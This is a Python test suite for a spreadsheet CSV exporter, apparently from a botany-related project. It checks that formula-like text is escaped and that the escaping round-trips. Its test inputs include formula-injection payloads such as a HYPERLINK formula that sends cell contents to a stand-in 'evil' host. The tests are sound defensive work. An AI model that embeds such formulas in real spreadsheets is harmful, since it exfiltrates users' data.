import csv

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from herbray.spreadsheet import FORMULA_STARTS, escape_formula, format_rows, unescape_formula, write_csv


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " ="])
def test_no_text_starts_as_a_formula(tmp_path, start):
    text = f'{start}HYPERLINK("http://evil/?x="&A1,"a")'
    write_csv(pa.table({"name": [text], start: ["plain"]}), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        header, row = csv.reader(file)
    assert row == [f"'{text}", "plain"]
    assert header[1] == f"'{start}"


def test_numbers_booleans_and_nulls_are_not_changed(tmp_path):
    table = pa.table({"n": [-1, 2], "p": [-0.5, None], "b": [True, False], "t": ["Rubus caesius", None]})
    write_csv(table, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == (
        b"\xef\xbb\xbfn,p,b,t\r\n-1,-0.5,True,Rubus caesius\r\n2,,False,\r\n"
    )
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


@pytest.mark.parametrize("sign", [";", "; ", "\t", ";\u00a0"])
def test_no_formula_starts_after_a_separator(sign):
    assert escape_formula(f'Rosa{sign}=HYPERLINK("http://evil/")') == f'Rosa{sign}\'=HYPERLINK("http://evil/")'
    assert escape_formula(f"Rosa{sign}Rubus = 2") == f"Rosa{sign}Rubus = 2"


def test_plain_names_are_left_alone():
    assert escape_formula("× Sorbaronia fallax") == "× Sorbaronia fallax"
    assert escape_formula("") == ""


@given(st.text("".join(FORMULA_STARTS) + "'; a\u00a0"))
@example("'=1")
@example(";\t=1")
def test_an_escaped_text_is_no_formula_and_comes_back(text):
    escaped = escape_formula(text)
    assert not escaped.lstrip(" \u00a0").startswith(FORMULA_STARTS)
    assert unescape_formula(escaped) == text


def test_rows_are_formatted_as_in_a_file(tmp_path):
    rows = [["=1", None, 'say "a, b"'], ["x\ny", "", 2]]
    columns = {name: [str(row[at]) if row[at] is not None else None for row in rows] for at, name in enumerate("abc")}
    write_csv(pa.table(columns), tmp_path / "out.csv")
    assert format_rows([["a", "b", "c"], *rows]) == (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
